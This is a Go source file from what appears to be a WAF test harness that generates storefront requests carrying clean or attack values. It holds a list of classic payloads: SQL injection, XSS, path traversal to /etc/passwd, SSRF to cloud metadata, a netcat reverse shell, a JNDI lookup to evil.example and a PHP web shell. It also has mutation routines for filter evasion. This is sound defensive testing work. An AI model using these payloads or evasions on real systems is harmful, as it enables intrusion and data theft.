package waf

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"math/rand/v2"
	"net/url"
	"regexp/syntax"
	"slices"
	"strconv"
	"strings"
)

// attacks are well-known ones, by hand; the rest of the attack traffic is
// generated from the rules themselves.
var attacks = []string{
	`1' UNION SELECT email,password FROM customers--`, `x' OR 1=1 --`, `1;DROP TABLE orders`, `' or 'a'='a`, `sleep(5)#`, `1 AND (SELECT 1)=1`, `2.2250738585072011e-308`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `<svg/onload=confirm(1)>`, `x" onmouseover="alert(1)`, "\xbcscript\xbealert(1)\xbc/script\xbe",
	`../../../../etc/passwd`, `..%252f..%252fetc%252fpasswd`, `/etc/shadow`, `C:\boot.ini`, `file:///etc/passwd`, `http://169.254.169.254/latest/meta-data/`, `http://127.0.0.1:8080/x?`,
	`;cat /etc/passwd`, "`id`", `$(whoami)`, `| nc -e /bin/sh 10.0.0.1 4444`, `() { :; }; echo x`, `c'a't /etc/pas""swd`, `powershell -enc AAAA`, `cmd.exe /c dir`,
	`<?php system($_GET[1]); ?>`, `php://filter/convert.base64-encode/resource=index`, `O:8:"stdClass":1:{s:1:"a";i:1;}`, `${jndi:ldap://evil.example/a}`, `${7*7}`, `{{7*7}}`,
	`require('child_process').exec('ls')`, `__proto__[x]=1`, `constructor.prototype`, `java.lang.Runtime`, `rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==`, `aced0005`,
	"x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "a\x00b", `\u003cscript\u003e`, `&#60;script&#62;alert(1)`, `%uff1cscript%uff1e`, `\x3cscript\x3e`,
	`UNI/**/ON SELE/**/CT 1,2,3`, "un\u0131on selec\u212a", `<ſcript>alert(1)</ſcript>`, `jsessionid=1`, `PHPSESSID`, `.htaccess`, `wp-config.php`, `web.config~`, `sqlmap/1.0`, `Nikto`,
}

// words of clean traffic.
var words = strings.Fields(`the red dress and a blue teapot for two with handle order number delivery address please leave it at neighbours thank you select size update
	cart from basket to checkout group by colour having stripes where is my parcel drop shipping table lamp union jack cushion insert coin create account or join us
	script font echo dot find time sort price cat toy man bag nice head band tail light less more top which one type kill bill host gift date night test eval
	anna.schmidt@example.org O'Brien Müller São-Paulo 10117 +49-30-1234567 24.95 2026-11-27 https://shop.example/p/1?x=2&y=3 50% a+b c&d "quoted" (brackets) #1 5/6 x=1; fin.`)

// traffic makes requests; the same seed makes the same ones.
type traffic struct {
	*rand.Rand
	values []string // that rules look for
}

// newTraffic makes values of the rules' own expressions and phrases.
func newTraffic(seed uint64, a *analysis) *traffic {
	t := &traffic{Rand: rand.New(rand.NewPCG(seed, 7)), values: slices.Clone(attacks)}
	for _, r := range a.rules {
		for i := range r.links {
			t.values = append(t.values, t.matching(&r.links[i], r.file, 4)...)
		}
	}
	return t
}

// matching makes values that a link's operator is likely to match.
func (t *traffic) matching(l *link, file string, n int) []string {
	var out []string
	switch l.function {
	case "rx":
		re, err := syntax.Parse("(?sm)"+l.argument, syntax.Perl)
		if err != nil {
			return nil
		}
		for range n {
			var b strings.Builder
			t.spell(&b, re)
			if b.Len() < 4096 {
				out = append(out, b.String())
			}
		}
	case "pmfromfile", "pmf":
		if set := phrasesOf(l.argument, file); len(set) > 0 {
			for range n {
				out = append(out, set[t.IntN(len(set))])
			}
		}
	case "pm":
		set := strings.Split(l.argument, " ")
		out = append(out, set[t.IntN(len(set))])
	}
	return out
}

// spell writes a text that an expression matches, mostly.
func (t *traffic) spell(b *strings.Builder, re *syntax.Regexp) {
	switch re.Op {
	case syntax.OpLiteral:
		for _, c := range re.Rune {
			if re.Flags&syntax.FoldCase != 0 && t.IntN(3) == 0 {
				for range t.IntN(3) + 1 {
					c = foldOnce(c)
				}
			}
			t.write(b, c)
		}
	case syntax.OpCharClass:
		if len(re.Rune) > 0 {
			i := t.IntN(len(re.Rune)/2) * 2
			lo, hi := re.Rune[i], min(re.Rune[i+1], re.Rune[i]+200)
			t.write(b, lo+rune(t.IntN(int(hi-lo)+1)))
		}
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		const any = " abcdefgh0123'\"<;/*\\%&=\xbc"
		b.WriteByte(any[t.IntN(len(any))])
	case syntax.OpCapture:
		t.spell(b, re.Sub[0])
	case syntax.OpStar, syntax.OpPlus, syntax.OpQuest, syntax.OpRepeat:
		least, most := 0, 2
		switch re.Op {
		case syntax.OpPlus:
			least, most = 1, 3
		case syntax.OpQuest:
			most = 1
		case syntax.OpRepeat:
			if least, most = re.Min, re.Max; most < 0 || most > least+3 {
				most = least + 3
			}
		default: // a star
		}
		for range least + t.IntN(most-least+1) {
			t.spell(b, re.Sub[0])
		}
	case syntax.OpConcat:
		for _, sub := range re.Sub {
			t.spell(b, sub)
		}
	case syntax.OpAlternate:
		t.spell(b, re.Sub[t.IntN(len(re.Sub))])
	case syntax.OpWordBoundary:
		if t.IntN(2) == 0 {
			b.WriteByte(' ')
		}
	default: // nothing is to be written
	}
}

// write spells a character; one up to U+00FF sometimes as a byte.
func (t *traffic) write(b *strings.Builder, c rune) {
	if c >= 0x80 && c <= 0xff && t.IntN(2) == 0 {
		b.WriteByte(byte(c))
		return
	}
	b.WriteRune(c)
}

// clean makes a value of clean traffic.
func (t *traffic) clean() string {
	switch t.IntN(6) {
	case 0:
		return strconv.Itoa(t.IntN(1_000_000))
	case 1:
		return token(t.IntN(1 << 30))
	case 2:
		return words[t.IntN(len(words))]
	}
	out := make([]string, 1+t.IntN(8))
	for i := range out {
		out[i] = words[t.IntN(len(words))]
	}
	return strings.Join(out, " ")
}

// attack makes a value that some rule looks for, often changed on the way.
func (t *traffic) attack() string {
	v := t.values[t.IntN(len(t.values))]
	for range t.IntN(3) {
		v = t.mutate(v)
	}
	return v
}

// mutate changes a value where the analysis has its edges.
func (t *traffic) mutate(v string) string {
	at := 0
	if len(v) > 0 {
		at = t.IntN(len(v) + 1)
	}
	insert := func(s string) string { return v[:at] + s + v[at:] }
	switch t.IntN(22) {
	case 0:
		return url.QueryEscape(v)
	case 1:
		return url.QueryEscape(url.QueryEscape(v))
	case 2:
		return insert("/**/")
	case 3:
		return insert("\x00")
	case 4:
		return insert("\xff")
	case 5:
		return insert(`\`)
	case 6:
		return insert(" ")
	case 7:
		return insert("''")
	case 8:
		return strings.ToUpper(v)
	case 9:
		return strings.NewReplacer("s", "ſ", "k", "\u212a").Replace(v)
	case 10:
		return base64.StdEncoding.EncodeToString([]byte(v))
	case 11:
		return hex.EncodeToString([]byte(v))
	case 12:
		return htmlEntities(v)
	case 13:
		return strings.ReplaceAll(v, " ", "+")
	case 14:
		return t.clean() + " " + v + " " + t.clean()
	case 15:
		return strings.ReplaceAll(v, " ", "\t")
	case 16:
		return unicodeEscapes(v, `\u`)
	case 17:
		return unicodeEscapes(v, `%u`)
	case 18:
		return strings.ToValidUTF8(v[:at], "") + "é" + v[at:]
	case 19:
		return v[:at] + t.values[t.IntN(len(t.values))]
	case 20:
		return v[:at]
	default:
		return insert(words[t.IntN(len(words))])
	}
}

func htmlEntities(v string) string {
	var b strings.Builder
	for i := range len(v) {
		b.WriteString("&#" + strconv.Itoa(int(v[i])) + ";")
	}
	return b.String()
}

func unicodeEscapes(v, prefix string) string {
	var b strings.Builder
	for i := range len(v) {
		h := strconv.FormatInt(int64(v[i]), 16)
		b.WriteString(prefix + strings.Repeat("0", 4-len(h)) + h)
	}
	return b.String()
}

// request makes a request with values from the given source in any place.
func (t *traffic) request(value func() string) *Request {
	n := t.IntN(1 << 20)
	names := []string{"product-get", "order-get", "form-post", "json-post"}
	r := storefront[names[t.IntN(len(names))]](n)
	for range 1 + t.IntN(2) {
		t.put(r, value())
	}
	return r
}

// put puts a value somewhere into a request.
func (t *traffic) put(r *Request, v string) {
	header := strings.Map(func(c rune) rune {
		if c < ' ' {
			return -1
		}
		return c
	}, v)
	form := func() string {
		half := t.IntN(len(v) + 1)
		return url.Values{"q": {v}, token(n(v))[:4]: {v[:half]}, "rest": {v[half:]}, v: {t.clean()}}.Encode()
	}
	switch t.IntN(14) {
	case 0, 1:
		r.URI += "&q=" + url.QueryEscape(v)
	case 2:
		r.URI = "/search?" + form()
	case 3:
		r.URI = "/" + url.PathEscape(v) + ".html"
	case 4:
		r.Header.Set("User-Agent", header)
	case 5:
		r.Header.Set("Referer", header)
	case 6:
		r.Header.Add("Cookie", "c="+header)
	case 7:
		names := []string{"Accept", "Content-Type", "Range", "Content-Encoding", "X-Filename", "Accept-Encoding", "Accept-Charset", "Connection", "Transfer-Encoding", "X-Forwarded-For", "Content-Length", "Max-Forwards"}
		r.Header.Set(names[t.IntN(len(names))], header)
	case 8:
		t.body(r, "application/x-www-form-urlencoded", form())
	case 9:
		text, err := json.Marshal(map[string]any{"q": v, v: []any{v, 1, nil, map[string]string{"deep": v}}})
		if err == nil {
			t.body(r, "application/json", string(text))
		}
	case 10:
		t.body(r, "application/xml", "<a b=\""+htmlEntities(v)+"\">"+htmlEntities(v)+"<c>"+t.clean()+"</c></a>")
	case 11:
		t.body(r, "multipart/form-data; boundary=BOUND", "--BOUND\r\nContent-Disposition: form-data; name=\""+strings.ReplaceAll(header, `"`, "%22")+"\"\r\n\r\n"+v+
			"\r\n--BOUND\r\nContent-Disposition: form-data; name=\"f\"; filename=\""+strings.ReplaceAll(header, `"`, "%22")+"\"\r\nContent-Type: text/plain\r\n\r\nx\r\n--BOUND--\r\n")
	case 12:
		t.body(r, "text/plain", v)
	case 13:
		r.Method, r.Proto, r.Host = []string{"GET", "POST", "PUT", "TRACE", "HEAD", "OPTIONS", "DELETE"}[t.IntN(7)], []string{"HTTP/1.1", "HTTP/1.0", "HTTP/2.0", "HTTP/9"}[t.IntN(4)],
			[]string{"shop.example", "127.0.0.1", "", "shop.example:8080"}[t.IntN(4)]
	}
}

func n(v string) int { return len(v) * 31 }

// body replaces a request's body.
func (t *traffic) body(r *Request, contentType, body string) {
	if t.IntN(4) > 0 {
		r.Method = "POST"
	}
	if t.IntN(4) == 0 {
		contentType += "; charset=utf-8"
	}
	r.Header.Set("Content-Type", contentType)
	r.Header.Set("Content-Length", strconv.Itoa(len(body)))
	r.Body = []byte(body)
}
